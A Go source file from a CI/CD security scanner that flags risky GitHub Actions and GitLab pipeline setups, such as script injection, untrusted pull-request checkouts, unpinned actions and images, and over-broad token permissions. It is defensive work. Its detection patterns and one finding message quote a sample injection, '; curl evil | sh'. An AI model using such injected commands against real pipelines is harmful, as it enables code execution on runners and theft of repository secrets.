package workflows

import (
	"regexp"
	"slices"
	"strings"

	"github.com/chainvet/chainvet/internal/catalog/containers"
	"github.com/chainvet/chainvet/internal/inventory"
	"gopkg.in/yaml.v3"
)

// Rule ids of the findings the CI cataloger reports; rules.All describes
// each. The workflow/ rules about shell commands apply to GitLab scripts
// too.
const (
	RuleUnpinnedAction     = "workflow/unpinned-action"
	RuleUntrustedCheckout  = "workflow/untrusted-checkout"
	RuleScriptInjection    = "workflow/script-injection"
	RulePermissions        = "workflow/permissions"
	RuleSecretsInherit     = "workflow/secrets-inherit"
	RulePersistCredentials = "workflow/persist-credentials"
	RuleUnpinnedInstall    = "workflow/unpinned-install"
	RuleCurlPipeShell      = "workflow/curl-pipe-shell"
	RuleUnpinnedModel      = "workflow/unpinned-model-download"
	RuleSelfHostedPublic   = "workflow/self-hosted-public"
	RuleUnpinnedImage      = "gitlab/unpinned-image"
	RuleUnpinnedInclude    = "gitlab/unpinned-include"
)

// privileged are the triggers that run with the repository's secrets and
// a write token on events anyone can cause (a fork's pull request, a
// comment, a completed run of a fork's workflow).
var privileged = map[string]bool{
	"pull_request_target": true, "workflow_run": true, "issue_comment": true, "issues": true,
	"discussion": true, "discussion_comment": true,
}

// public are the triggers whose runs outsiders can cause on a public
// repository; with a self-hosted runner they run on the runner.
var public = map[string]bool{
	"pull_request": true, "pull_request_target": true, "pull_request_review": true,
	"pull_request_review_comment": true, "issue_comment": true, "issues": true,
	"discussion": true, "discussion_comment": true, "workflow_run": true, "fork": true,
}

var (
	// exprInRE is one ${{ … }} expression.
	exprInRE = regexp.MustCompile(`\$\{\{[^}]{0,512}\}\}`)
	// untrustedRE is a context whose value an outsider writes: titles,
	// bodies, branch names, commit messages and authors.
	untrustedRE = regexp.MustCompile(`\bgithub\.head_ref\b|\bgithub\.event\.(` +
		`(issue|pull_request|discussion)\.(title|body)|` +
		`(comment|review|review_comment)\.body|` +
		`pages\b[^\s}]{0,16}?\.page_name|` +
		`(head_commit|workflow_run\.head_commit|commits\b[^\s}]{0,16}?)\.(message|author\.(email|name)|committer\.(email|name))|` +
		`pull_request\.head\.(ref|label|repo\.default_branch)|` +
		`workflow_run\.(head_branch|display_title|pull_requests\b[^\s}]{0,16}?\.head\.ref)|` +
		`check_suite\.head_branch|check_run\.check_suite\.head_branch)\b`)
	// untrustedRefRE is a ref or repository naming a pull request's head.
	untrustedRefRE = regexp.MustCompile(`github\.event\.pull_request\.head\.(sha|ref|repo\.full_name)|github\.head_ref|` +
		`refs/pull/|github\.event\.workflow_run\.(head_sha|head_branch|head_repository\.full_name)|` +
		`github\.event\.pull_request\.merge_commit_sha|github\.event\.issue\.number`)
	// shortSHARE is an abbreviated commit.
	shortSHARE = regexp.MustCompile(`^[0-9a-f]{7,39}$`)
	// prCheckoutRE is a run step fetching a pull request's code.
	prCheckoutRE = regexp.MustCompile(`\bgh\s+pr\s+checkout\b|\bgit\s{1,8}(fetch|checkout|pull)\b[^\n]{0,256}(pull/[^\s/]{1,32}/(head|merge)|\$\{\{\s*github\.(event\.pull_request\.head|head_ref|event\.workflow_run\.head))`)
)

// evidence cuts text for a finding.
func evidence(s string) string { return containers.Cut(strings.TrimSpace(s)) }

func (w *walker) finding(rule string, sev inventory.Severity, comp string, line, col int, ev, msg, fix string) {
	if comp == "" {
		comp = w.self
	}
	w.s.Finding(inventory.Finding{Rule: rule, Severity: sev, Component: comp, Path: w.f.Path,
		Line: line, Column: col, Evidence: evidence(ev), Message: msg, Remediation: fix})
}

// srcLine returns the 1-based line of the file, without its newline.
func (w *walker) srcLine(n int) string {
	if w.lines == nil {
		w.lines = strings.Split(string(w.buf), "\n")
	}
	if n < 1 || n > len(w.lines) {
		return ""
	}
	return strings.TrimSuffix(w.lines[n-1], "\r")
}

// pos maps an offset in a scalar's value to the line and column of the
// file: block scalars start on the line after their indicator; text is
// looked up in the source line so indentation and quotes are counted.
func (w *walker) pos(n *yaml.Node, off int) (line, col int) {
	v := n.Value
	off = min(max(off, 0), len(v))
	k := strings.Count(v[:off], "\n")
	ls := strings.LastIndexByte(v[:off], '\n') + 1
	vline, _, _ := strings.Cut(v[ls:], "\n")
	line = n.Line + k
	if n.Style == yaml.LiteralStyle || n.Style == yaml.FoldedStyle {
		line++
	}
	from := 0
	if line == n.Line {
		from = min(max(n.Column-1, 0), len(w.srcLine(line)))
	}
	if vline != "" {
		if i := strings.Index(w.srcLine(line)[from:], vline); i >= 0 {
			return line, from + i + off - ls + 1
		}
		// Folded or escaped text: look for the words near the scalar.
		needle := v[off:min(off+24, len(v))]
		needle, _, _ = strings.Cut(needle, "\n")
		for l := n.Line; needle != "" && l <= n.Line+k+64 && l <= len(w.lines); l++ {
			if i := strings.Index(w.srcLine(l), needle); i >= 0 {
				return l, i + 1
			}
		}
	}
	if line == n.Line {
		return line, n.Column
	}
	s := w.srcLine(line)
	return line, len(s) - len(strings.TrimLeft(s, " \t")) + 1
}

// at is a node's own line and column.
func at(n *yaml.Node) (int, int) { return n.Line, n.Column }

// keyOf returns the key node of key in a mapping node, or nil.
func keyOf(n *yaml.Node, key string) *yaml.Node {
	for _, kv := range pairs(n) {
		if kv[0].Value == key {
			return kv[0]
		}
	}
	return nil
}

// triggers lists a workflow's events: on: is a name, a list or a mapping.
func triggers(root *yaml.Node) map[string]bool {
	on := mapping(root, "on")
	out := map[string]bool{}
	switch {
	case on == nil:
	case on.Kind == yaml.ScalarNode:
		out[on.Value] = true
	case on.Kind == yaml.SequenceNode:
		for _, e := range on.Content {
			out[e.Value] = true
		}
	default:
		for _, kv := range pairs(on) {
			out[kv[0].Value] = true
		}
	}
	return out
}

func anyOf(set, of map[string]bool) []string {
	var out []string
	for k := range set {
		if of[k] {
			out = append(out, k)
		}
	}
	slices.Sort(out)
	return out
}

// hasSecrets reports whether an env mapping or a text expands a secret.
func hasSecrets(nodes ...*yaml.Node) bool {
	for _, n := range nodes {
		if n == nil {
			continue
		}
		if n.Kind == yaml.ScalarNode && strings.Contains(n.Value, "secrets.") && strings.Contains(n.Value, "${{") {
			return true
		}
		for _, kv := range pairs(n) {
			if hasSecrets(kv[1]) {
				return true
			}
		}
	}
	return false
}

// githubRisks checks a workflow: its triggers against what its jobs do.
func (w *walker) githubRisks(root *yaml.Node) {
	on := triggers(root)
	priv := anyOf(on, privileged)
	callOnly := len(on) == 1 && on["workflow_call"]
	rootPerms := mapping(root, "permissions")
	if rootPerms != nil {
		w.permissions(rootPerms, priv)
	}
	var bare []string
	for _, kv := range pairs(mapping(root, "jobs")) {
		if w.nodes++; w.nodes > MaxNodes {
			return
		}
		name, job := kv[0].Value, kv[1]
		if p := mapping(job, "permissions"); p != nil {
			w.permissions(p, priv)
		} else if rootPerms == nil {
			bare = append(bare, name)
		}
		if sec := mapping(job, "secrets"); sec != nil && sec.Kind == yaml.ScalarNode && sec.Value == "inherit" {
			l, c := at(sec)
			w.finding(RuleSecretsInherit, inventory.Medium, "", l, c, "secrets: inherit",
				"job "+name+" passes every secret of the repository to the reusable workflow "+flat(mapping(job, "uses")),
				"pass only the secrets it needs, by name: secrets: { NAME: ${{ secrets.NAME }} }")
		}
		if pub := anyOf(on, public); len(pub) > 0 {
			if rn := selfHosted(mapping(job, "runs-on")); rn != nil {
				l, c := at(rn)
				w.finding(RuleSelfHostedPublic, inventory.High, "", l, c, "runs-on: "+flat(mapping(job, "runs-on")),
					"job "+name+" runs on a self-hosted runner on "+strings.Join(pub, ", ")+": if this repository is public, anyone can run code on that machine, and it keeps state between jobs",
					"use a GitHub-hosted runner (runs-on: ubuntu-latest) for these triggers, or ephemeral, isolated self-hosted runners limited to private repositories")
			}
		}
		w.steps(items(mapping(job, "steps")), on, priv, hasSecrets(mapping(root, "env"), mapping(job, "env")))
	}
	if len(bare) > 0 && !callOnly {
		k := keyOf(root, "jobs")
		if k == nil {
			return
		}
		l, c := at(k)
		w.finding(RulePermissions, inventory.Medium, "", l, c, "no permissions: for job "+strings.Join(bare, ", "),
			"no permissions: block at workflow or job level: the GITHUB_TOKEN gets the repository's default, which may be write-all",
			"declare the least the jobs need at the top of the workflow, e.g. permissions: { contents: read }, and widen per job")
	}
}

// selfHosted returns the runs-on node naming a self-hosted runner.
func selfHosted(n *yaml.Node) *yaml.Node {
	if n == nil {
		return nil
	}
	if n.Kind == yaml.MappingNode {
		n = mapping(n, "labels")
	}
	for _, e := range items(n) {
		if e.Kind == yaml.ScalarNode && strings.EqualFold(strings.TrimSpace(e.Value), "self-hosted") {
			return e
		}
	}
	return nil
}

// flat renders a small node on one line for evidence.
func flat(n *yaml.Node) string {
	if n == nil {
		return ""
	}
	if n.Kind == yaml.ScalarNode {
		return n.Value
	}
	var parts []string
	for _, e := range n.Content {
		parts = append(parts, flat(e))
	}
	return "[" + strings.Join(parts, ", ") + "]"
}

// permissions checks one permissions: block.
func (w *walker) permissions(p *yaml.Node, priv []string) {
	l, c := at(p)
	if p.Kind == yaml.ScalarNode && p.Value == "write-all" {
		sev := inventory.Medium
		if len(priv) > 0 {
			sev = inventory.High
		}
		w.finding(RulePermissions, sev, "", l, c, "permissions: write-all",
			"the GITHUB_TOKEN may write to everything: code, releases, packages, other workflows' runs",
			"name only the scopes the job needs, e.g. permissions: { contents: read }")
		return
	}
	if len(priv) == 0 {
		return
	}
	var writes []string
	for _, kv := range pairs(p) {
		if kv[1].Value == "write" {
			writes = append(writes, kv[0].Value+": write")
		}
	}
	if len(writes) > 0 {
		w.finding(RulePermissions, inventory.High, "", l, c, strings.Join(writes, ", "),
			"write scopes on a workflow run by "+strings.Join(priv, ", ")+", events outsiders cause: a flaw in any step hands them this token",
			"split the work: do the untrusted part with permissions: { contents: read } and the write in a separate workflow that trusts only its artifacts' data")
	}
}

// steps checks the steps of one job or composite action. on is empty for
// a composite action, whose callers are not known. secrets says whether
// the workflow's or job's env: expands a secret, which every step sees.
func (w *walker) steps(steps []*yaml.Node, on map[string]bool, priv []string, secrets bool) {
	checkoutAt := -1
	var checkout *yaml.Node
	for i, st := range steps {
		if w.nodes++; w.nodes > MaxNodes {
			return
		}
		if u := mapping(st, "uses"); u != nil && u.Kind == yaml.ScalarNode {
			action := strings.ToLower(strings.SplitN(strings.TrimSpace(u.Value), "@", 2)[0])
			switch {
			case action == "actions/checkout":
				with := mapping(st, "with")
				if pc := mapping(with, "persist-credentials"); pc == nil || pc.Value != "false" {
					l, c := at(u)
					w.finding(RulePersistCredentials, inventory.Low, "", l, c, "uses: "+u.Value,
						"actions/checkout leaves the GITHUB_TOKEN in .git/config, where every later step, and any artifact of the workspace, can read it",
						"add to the step: with: { persist-credentials: false } (pass the token explicitly to the one step that pushes)")
				}
				if checkoutAt < 0 && (on["pull_request_target"] || on["workflow_run"] || on["issue_comment"]) {
					for _, k := range []string{"ref", "repository"} {
						if r := mapping(with, k); r != nil && untrustedRefRE.MatchString(r.Value) {
							checkoutAt, checkout = i, r
							break
						}
					}
				}
			case action == "actions/github-script":
				if sc := mapping(mapping(st, "with"), "script"); sc != nil {
					w.injection(sc, priv, "process.env.")
				}
			}
		}
		run := mapping(st, "run")
		if run == nil || run.Kind != yaml.ScalarNode {
			continue
		}
		w.injection(run, priv, "$")
		if checkoutAt < 0 && (on["pull_request_target"] || on["workflow_run"] || on["issue_comment"]) {
			if m := prCheckoutRE.FindStringIndex(run.Value); m != nil {
				checkoutAt, checkout = i, run
			}
		}
		secret := secrets || hasSecrets(mapping(st, "env"), run)
		for _, k := range containers.ScanShell(run.Value) {
			l, c := w.pos(run, k.Off)
			w.shellRisk(k, l, c, secret)
		}
	}
	if checkout != nil {
		w.untrustedCheckout(checkout, steps[checkoutAt+1:], on)
	}
}

// untrustedCheckout reports a checkout of a pull request's code in a
// privileged run: critical when later steps run (anything: a build, a
// test, an action reading the workspace executes that code), else high.
func (w *walker) untrustedCheckout(n *yaml.Node, later []*yaml.Node, on map[string]bool) {
	sev := inventory.High
	for _, st := range later {
		if mapping(st, "run") != nil || mapping(st, "uses") != nil {
			sev = inventory.Critical
		}
	}
	trig := strings.Join(anyOf(on, map[string]bool{"pull_request_target": true, "workflow_run": true, "issue_comment": true}), ", ")
	l, c := at(n)
	if m := prCheckoutRE.FindStringIndex(n.Value); m != nil {
		l, c = w.pos(n, m[0])
	} else if m := untrustedRefRE.FindStringIndex(n.Value); m != nil {
		l, c = w.pos(n, m[0])
	}
	w.finding(RuleUntrustedCheckout, sev, "", l, c, n.Value,
		"a workflow triggered by "+trig+" runs with secrets and a write token, and checks out the pull request's code: whatever that code runs, an outsider wrote",
		"run untrusted code only under on: pull_request (no secrets, read-only token); if results must be published, upload them as an artifact and publish from a separate workflow_run workflow that never checks out or runs the pull request's code")
}

// injection reports attacker-written contexts expanded into a script.
func (w *walker) injection(n *yaml.Node, priv []string, use string) {
	if n.Kind != yaml.ScalarNode {
		return
	}
	found := 0
	for _, m := range exprInRE.FindAllStringIndex(n.Value, -1) {
		expr := n.Value[m[0]:m[1]]
		ctx := untrustedRE.FindString(expr)
		if ctx == "" {
			continue
		}
		if found++; found > containers.MaxRisks {
			return // the script is already reported
		}
		sev, when := inventory.High, ""
		if len(priv) > 0 {
			sev, when = inventory.Critical, " in a workflow run by "+strings.Join(priv, ", ")+", with secrets and a write token"
		}
		name := envName(ctx)
		l, c := w.pos(n, m[0])
		w.finding(RuleScriptInjection, sev, "", l, c, expr,
			ctx+" is written by whoever opens the issue, pull request, branch or comment, and is pasted into the script before it runs: text such as \"; curl evil | sh\" becomes code"+when,
			"pass it through the environment: env: { "+name+": ${{ "+ctx+" }} } and use "+quoteVar(use, name)+" in the script")
	}
}

func quoteVar(use, name string) string {
	if use == "$" {
		return "\"$" + name + "\""
	}
	return use + name
}

// envName is an environment variable name for a context, from its last
// two elements: github.event.issue.title is ISSUE_TITLE.
func envName(ctx string) string {
	parts := strings.Split(ctx, ".")
	if len(parts) > 2 {
		parts = parts[len(parts)-2:]
	}
	s := strings.ToUpper(strings.Join(parts, "_"))
	return strings.Map(func(r rune) rune {
		if r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' {
			return r
		}
		return -1
	}, s)
}

// shellRisk reports one risky command of a run: or script: text.
func (w *walker) shellRisk(k containers.ShellRisk, line, col int, secret bool) {
	switch k.Kind {
	case containers.PipeToShell:
		w.finding(RuleCurlPipeShell, inventory.High, "", line, col, k.Evidence,
			"the job downloads code and runs it at once: "+k.Detail, k.Fix)
	case containers.UnpinnedInstall:
		sev, also := inventory.Medium, ""
		if secret {
			sev, also = inventory.High, "; secrets are in this step's environment, where the installed code can read them"
		}
		w.finding(RuleUnpinnedInstall, sev, "", line, col, k.Evidence,
			k.Detail+": each run may install a new, possibly malicious, release"+also, k.Fix)
	case containers.UnpinnedModel:
		w.finding(RuleUnpinnedModel, inventory.Medium, "", line, col, k.Evidence,
			"a model is downloaded by branch, not by commit: "+k.Detail, k.Fix)
	}
}

// usesRisk reports a uses: reference not pinned to a commit or digest.
// Actions of GitHub's own actions/ and github/ organisations are medium:
// their tags have not been known to move maliciously, but still can.
func (w *walker) usesRisk(n *yaml.Node, comp string) {
	v := strings.TrimSpace(n.Value)
	l, c := at(n)
	if img, ok := strings.CutPrefix(v, "docker://"); ok {
		im, ok := containers.ParseImage(img)
		if !ok || im.Pinned() {
			return
		}
		w.finding(RuleUnpinnedAction, inventory.Medium, comp, l, c, "uses: "+v,
			"the step runs a container image by tag, which can be moved to other bytes",
			"pin the digest: uses: docker://"+img+"@sha256:<digest> (docker buildx imagetools inspect "+img+" prints it)")
		return
	}
	spec, ref, _ := strings.Cut(v, "@")
	if sha40RE.MatchString(ref) {
		return
	}
	sev := inventory.High
	owner, _, _ := strings.Cut(strings.ToLower(spec), "/")
	if owner == "actions" || owner == "github" {
		sev = inventory.Medium
	}
	repo := spec
	if parts := strings.SplitN(spec, "/", 3); len(parts) >= 2 {
		repo = parts[0] + "/" + parts[1]
	}
	what := "ref " + ref
	if ref == "" {
		what = "no ref"
	} else if shortSHARE.MatchString(ref) {
		what = "short SHA " + ref + ", which another commit can be made to share"
	}
	w.finding(RuleUnpinnedAction, sev, comp, l, c, "uses: "+v,
		spec+" is used by "+what+"; tags and branches can be moved to new code, as in the tj-actions/changed-files compromise",
		"pin the full commit and keep the tag as a comment: uses: "+spec+"@<40-hex commit> # "+ref+" (git ls-remote https://github.com/"+repo+" "+ref+" prints the commit)")
}

// gitlabScripts checks the script lines of a job or default section.
func (w *walker) gitlabScripts(job *yaml.Node) {
	for _, key := range []string{"before_script", "script", "after_script"} {
		w.gitlabLines(mapping(job, key), 0)
	}
}

func (w *walker) gitlabLines(n *yaml.Node, depth int) {
	if n == nil || depth > 4 {
		return
	}
	for _, e := range items(n) {
		if w.nodes++; w.nodes > MaxNodes {
			return
		}
		if e.Kind == yaml.SequenceNode {
			w.gitlabLines(e, depth+1) // nested lists, as !reference makes
			continue
		}
		if e.Kind != yaml.ScalarNode {
			continue
		}
		for _, k := range containers.ScanShell(e.Value) {
			l, c := w.pos(e, k.Off)
			w.shellRisk(k, l, c, false)
		}
	}
}

// imageRisk reports a GitLab image or service without a digest: high
// when it names no tag or latest.
func (w *walker) imageRisk(n *yaml.Node, im containers.Image, comp string) {
	if im.Pinned() {
		return
	}
	sev, why := inventory.Medium, "tag "+im.Tag+" can be moved to other bytes"
	if im.Tag == "" || im.Tag == "latest" {
		sev, why = inventory.High, "latest tag follows every new push"
	}
	shown := im.Name()
	if im.Tag != "" {
		shown += ":" + im.Tag
	}
	l, c := at(n)
	w.finding(RuleUnpinnedImage, sev, comp, l, c, n.Value,
		"the job's image is not pinned by digest: its "+why,
		"pin the digest: "+shown+"@sha256:<digest> (docker buildx imagetools inspect "+shown+" prints it)")
}

// includeRisk reports an include whose content can change under the
// pipeline: a remote URL, or a project or component not at a commit.
func (w *walker) includeRisk(n *yaml.Node, ev, why, fix string) {
	l, c := at(n)
	w.finding(RuleUnpinnedInclude, inventory.High, "", l, c, ev,
		"the pipeline includes configuration that can change without a commit here: "+why+"; whoever controls it controls the jobs and their variables", fix)
}
